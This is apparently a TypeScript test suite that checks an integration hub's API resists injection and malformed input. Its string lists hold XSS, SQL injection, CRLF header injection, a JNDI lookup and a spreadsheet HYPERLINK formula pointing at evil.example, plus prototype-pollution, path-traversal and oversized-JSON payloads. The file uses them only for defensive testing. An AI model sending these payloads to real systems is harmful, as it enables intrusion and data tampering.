import assert from 'node:assert/strict';
import { test } from 'node:test';
import { type IntegrateInTest, openIntegrateInTest, orders } from '../integrate/integrate-in-test.ts';
import { hubApiBase, hubOperations } from './operations.ts';

/** Texts that mean something elsewhere: in HTML, SQL, shells, logs, spreadsheets, or to a careless reader of strings. */
const texts = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'; DROP TABLE person; --",
  '%_\\%',
  '=HYPERLINK("https://evil.example")',
  'line one\r\nSet-Cookie: a=b\r\n\r\n{"level":50,"msg":"forged"}',
  '\u001b[2J\u001b[31mred',
  'a\u0000b',
  '\ud800 alone',
  '\u202egnirts',
  '${jndi:ldap://evil.example/a}',
  '{{constructor.constructor("return process")()}}',
  '__proto__',
];

/** As UTF-8 can say it: half a character is none. */
const sound = (text: string) => text.toWellFormed();

const bodyOperations = hubOperations.filter(({ body }) => body !== undefined);
const open = new Set(['logIn']);

/** Sends a body as it stands, as the administrator. */
async function sendText({ hub, headers }: IntegrateInTest, method: string, path: string, payload: string | Buffer) {
  const url = hubApiBase + path.replaceAll(/:\w+/g, '1');
  const typed = { ...headers, 'content-type': 'application/json' };
  const answer = await hub.app.inject({ method: method as 'POST', url, headers: typed, payload });
  return { status: answer.statusCode, text: answer.body, headers: answer.headers };
}

test('text of any kind is kept as text, and comes back as the same text in JSON that is never shown as a page', async () => {
  await using stage = await openIntegrateInTest();
  for (const [index, text] of texts.entries()) {
    const site = { name: `Site_${index}`, url: `https://host${index}.example`, description: text };
    const made = await stage.call('POST', '/remote-sites', site);
    assert.equal(made.status, 201, JSON.stringify(made.errors));
    const read = await stage.call('GET', `/remote-sites/${made.json.id}`);
    assert.equal(read.json.description, sound(text));
    assert.match(String(read.headers['content-type']), /^application\/json/);
    assert.equal(read.headers['x-content-type-options'], 'nosniff');
    assert.match(String(read.headers['content-security-policy']), /default-src 'none'/);
    const found = await stage.call('GET', `/remote-sites?search=${encodeURIComponent(sound(text))}`);
    assert.ok(found.status === 200 && found.json.rows.length <= 1, `${JSON.stringify(text)} finds itself alone`);
    const person = await stage.call('POST', '/people', { username: `p${index}`, name: text, role: 'viewer' });
    assert.equal(person.json.name, sound(text));
    const integration = await stage.call('POST', '/integrations', { name: text, description: text });
    assert.ok([201, 400].includes(integration.status));
  }
  assert.equal((await stage.call('GET', '/people')).json.total, texts.length + 1, 'no table was dropped');
});

test('what a search means is its text: no wildcard finds more, and no pattern takes long', async () => {
  await using stage = await openIntegrateInTest();
  for (const [index, name] of ['a%b', 'a_b', 'axb', 'a\\b'].entries())
    await stage.call('POST', '/people', { username: `p${index}`, name, role: 'viewer' });
  for (const [search, wanted] of [
    ['%', 1],
    ['_', 1],
    ['\\', 1],
    ['a%b', 1],
    ['%%%%%%%%', 0],
    [`${'%a'.repeat(120)}`, 0],
    ["' OR 1=1 --", 0],
    ['(a+)+$', 0],
  ] as const)
    assert.equal((await stage.call('GET', `/people?search=${encodeURIComponent(search)}`)).json.total, wanted, search);
  for (const text of ['%', '_', '\\', `${'%_'.repeat(120)}`, '\u0000'])
    assert.equal((await stage.call('GET', `/messages?text=${encodeURIComponent(text)}`)).status, 200);
  for (const sort of [
    'name;DROP TABLE person',
    '(SELECT 1)',
    '-',
    '--name',
    '__proto__',
    'constructor',
    'password_hash',
  ])
    assert.equal((await stage.call('GET', `/people?sort=${encodeURIComponent(sort)}`)).status, 400, sort);
});

test('a repeated or unknown parameter is refused, whatever it is called', async () => {
  await using stage = await openIntegrateInTest();
  for (const name of ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'page[]', 'PAGE', 'pa%67e ', '']) {
    const { status, errors } = await stage.call('GET', `/people?${name}=1`);
    assert.deepEqual([status, /is given twice/.test(errors[0]?.message ?? '')], [400, false], name);
    assert.equal((await stage.call('GET', `/people?${name}=1&${name}=1`)).status, 400, name);
  }
  for (const value of ['1e999', '-1', '0', '1.5', '0x1', '9'.repeat(15), '9'.repeat(400), 'NaN', '١', '1;2', ' 1'])
    assert.equal((await stage.call('GET', `/people?page=${encodeURIComponent(value)}`)).status, 400, value);
  const many = Array.from({ length: 3_000 }, (_, index) => `a${index}`).join('&');
  assert.equal((await stage.call('GET', `/people?${many}`)).status, 400);
  for (const cursor of [
    '-1',
    '1e999',
    '9'.repeat(400),
    '[]',
    'W10',
    'eyJhIjoxfQ',
    '%00',
    Buffer.from('["a",1e999]').toString('base64url'),
  ])
    for (const filter of ['', '&keyPrefix=a']) {
      const { status } = await stage.call('GET', `/messages?cursor=${cursor}${filter}`);
      assert.ok(status === 400 || (status === 200 && filter !== ''), `${cursor} ${status}`);
    }
});

test('bodies that are too large, too deep, or no sound JSON are refused by each operation, and change nothing', async () => {
  await using stage = await openIntegrateInTest();
  const deep = (open: string, close: string, count: number) => open.repeat(count) + close.repeat(count);
  const bodies: Record<string, [string | Buffer, number]> = {
    'too large': [`{"name":"${'a'.repeat(1_100_000)}"}`, 413],
    'deep arrays': [deep('[', ']', 100_000), 400],
    'deep objects': [`{"name":${deep('{"a":', '}', 50_000).replace('}', '1}')}}`, 400],
    'arrays that never end': ['['.repeat(200_000), 400],
    'no UTF-8': [Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x3a, 0x31, 0x7d]), 400],
    'a surrogate in bytes': [Buffer.from([0x22, 0xed, 0xa0, 0x80, 0x22]), 400],
    'a byte order mark': ['\ufeff{}', 400],
    'two values': ['{}{}', 400],
    nothing: ['', 400],
    'a NUL': ['{"a":1}\u0000', 400],
    'an endless number': ['{"version":1e999,"page":1e999}', 400],
    'a prototype': ['{"__proto__":{"role":"administrator"},"constructor":{"prototype":{"x":1}}}', 400],
    'keys with NUL': ['{"na\\u0000me":"a"}', 400],
    'a surrogate for a key': ['{"\\ud800":"a"}', 400],
    'a long key': [`{"${'k'.repeat(200_000)}":1}`, 400],
    'many keys': [`{${Array.from({ length: 5_000 }, (_, index) => `"k${index}":1`).join(',')}}`, 400],
    'a list': ['[]', 400],
    'a text': ['"x"', 400],
    null: ['null', 400],
  };
  const trail = async () => (await stage.call('GET', '/audit-trail')).json.total;
  const before = await trail();
  let sent = 0;
  for (const { id, method, path } of bodyOperations)
    for (const [name, [body, status]] of Object.entries(bodies)) {
      const answer = await sendText(stage, method, path, body);
      // What is not there is told before what does not fit; a stranger's body may be less large.
      const found = [status, ...(open.has(id) ? [413] : [404])];
      assert.ok(found.includes(answer.status), `${name} at ${id}: ${answer.status} ${answer.text.slice(0, 200)}`);
      assert.ok(answer.text.length < 10_000, `${name} at ${id} is not sent back`);
      sent += 1;
    }
  assert.ok(sent > 300);
  assert.equal(await trail(), before);
  assert.equal(Object.hasOwn(Object.prototype, 'role'), false);
});

test('of a key that is there twice the last counts, for the check as for the work', async () => {
  await using stage = await openIntegrateInTest();
  const { status, text } = await sendText(
    stage,
    'POST',
    '/people',
    '{"username":"a b","username":"ann","name":"A","role":"administrator","role":"viewer"}',
  );
  assert.equal(status, 201, text);
  const { username, role } = JSON.parse(text);
  assert.deepEqual([username, role], ['ann', 'viewer']);
});

test('an id is a number there is, however long or odd it is', async () => {
  await using stage = await openIntegrateInTest();
  const ids = [
    '0',
    '-1',
    '1e999',
    'NaN',
    'Infinity',
    '9'.repeat(300),
    '9223372036854775808',
    '%00',
    '1%00',
    '..',
    '%2e%2e%2f1',
    'x'.repeat(5_000),
    '%F0%9F%92%A9',
    'null',
    '[object%20Object]',
    '1;2',
  ];
  for (const { method, path, id } of hubOperations.filter((one) => /:id/.test(one.path) && one.body === undefined))
    for (const one of ids) {
      const { status } = await stage.call(method, path.replace(':id', one).replaceAll(/:\w+/g, one));
      assert.ok([400, 404, 414].includes(status), `${id} ${one.slice(0, 30)}: ${status}`);
    }
});

test('patterns of our schemas decide a text of any kind and length at once', { timeout: 60_000 }, async () => {
  const found = new Set<string>();
  const collect = (shape: unknown): void => {
    if (typeof shape !== 'object' || shape === null) return;
    const { pattern } = shape as { pattern?: unknown };
    if (typeof pattern === 'string') found.add(pattern);
    for (const key of Object.keys(Object((shape as { patternProperties?: object }).patternProperties))) found.add(key);
    for (const value of Object.values(shape)) collect(value);
  };
  for (const { body, query, answer } of hubOperations) for (const schema of [body, query, answer]) collect(schema);
  assert.ok(found.size > 5);
  const hostile = ['a', 'A_', 'a-', 'a.', '0', '@', 'a@', ' ', '__', '/', 'a/', '::', '\u0000'].map((part) =>
    part.repeat(100_000 / part.length),
  );
  for (const pattern of found)
    for (const text of hostile) for (const end of ['', '!', '\n']) new RegExp(pattern, 'u').test(text + end);
});

test('an export for spreadsheets has no cell that is a formula, and no row that a text has made', async () => {
  await using stage = await openIntegrateInTest();
  for (const [index, text] of texts.entries())
    await stage.send({ body: JSON.stringify([{ number: index, note: text }, { total: text }]) });
  await stage.send({ body: JSON.stringify({ number: '=1+1' }) });
  while (Number(stage.sql(`SELECT count(*) AS n FROM message WHERE key LIKE '=%'`)[0]?.n) === 0)
    await new Promise((resolve) => setTimeout(resolve, 20));
  const { text, headers } = await stage.call('GET', '/messages/export?format=csv&spreadsheet=true');
  assert.match(String(headers['content-disposition']), /^attachment; filename="[\w.-]+"$/);
  assert.match(String(headers['content-type']), /^text\/csv/);
  assert.match(text, /,'=1\+1,/);
  assert.doesNotMatch(text, /(^|,|")[=@\t\r]/m);
});

test('names of interfaces and formulas that look like code are refused or kept, and run as nothing else', async () => {
  await using stage = await openIntegrateInTest();
  for (const text of texts) {
    const change = { name: text.slice(0, 60), mapping: { ...orders.mapping, Note__c: { constant: text } } };
    const made = await stage.call('POST', '/interfaces', { definition: { ...orders, ...change } });
    assert.ok([201, 400].includes(made.status), JSON.stringify(made.errors));
    const named = { ...orders, name: 'named', mapping: { ...orders.mapping, [text]: 'note' } };
    assert.equal((await stage.call('POST', '/interfaces', { definition: named })).status, 400, text);
    const formula = { ...orders, name: 'formula', mapping: { ...orders.mapping, Note__c: { formula: text } } };
    const refused = await stage.call('POST', '/interfaces', { definition: formula });
    // A name such as __proto__ may be that of a column, and is no more than that.
    assert.equal(refused.status, /^\w+$/.test(text) ? 201 : 400, text);
  }
  assert.equal(Object.hasOwn(Object.prototype, 'note'), false);
});
